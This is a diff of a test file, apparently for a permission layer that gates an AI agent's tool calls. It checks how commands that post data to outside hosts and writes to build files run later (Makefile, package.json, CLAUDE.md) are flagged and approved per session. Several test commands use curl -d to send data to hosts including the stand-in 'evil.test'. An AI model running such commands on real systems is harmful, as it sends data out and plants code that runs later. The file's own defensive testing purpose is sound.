@@ -527,12 +527,25 @@ describe("an answer", () => {
       "curl -d x https://api.example.org/u; cp a.txt package.json",
     ].map((command) => call("Bash", { command }));
     expect(asked.map(({ rule }) => rule)).toEqual([SENDS, SENDS, SENDS, LATER, LATER, LATER]);
-    // All of them are named, and a yes is one for all.
+    // All of them are named, and a yes is one for each.
     const both = { command: "curl -d x https://docs.example.org/u https://evil.test/u https://api.example.org/u" };
     const made = call("Bash", both);
     expect(made.view().description?.hazards[0]).toMatchObject({ host: "docs.example.org, evil.test" });
     expect(made.answer("approved", "session")?.outcome).toBe("allowed");
-    expect([call("Bash", both), call("Bash", POST)].map(({ outcome }) => outcome)).toEqual(["allowed", "allowed"]);
+    const one = { command: "curl -d x https://evil.test/u" };
+    expect([both, POST, one].map((args) => call("Bash", args).outcome)).toEqual(["allowed", "allowed", "allowed"]);
+  });
+
+  it("for files that run later holds for each of them in its session, also where something private is read later", async () => {
+    const { call, marked, put, home } = await world();
+    marked();
+    call("Bash", { command: "echo x | tee Makefile package.json" }).answer("approved", "session");
+    call("Read", { file_path: put(`${home.home}/notes/b.md`, "b") });
+    const written = (name: string, session = "s1") =>
+      call("Write", { file_path: name, content: "x" }, { session }).rule;
+    expect([written("Makefile"), written("package.json")]).not.toContain(LATER);
+    marked({ session: "s2" });
+    expect([written("CLAUDE.md"), written("sub/Makefile"), written("Makefile", "s2")]).toEqual([LATER, LATER, LATER]);
   });
 
   it("is none for what the very call reads for the first time, nor for what was read beside something known", async () => {
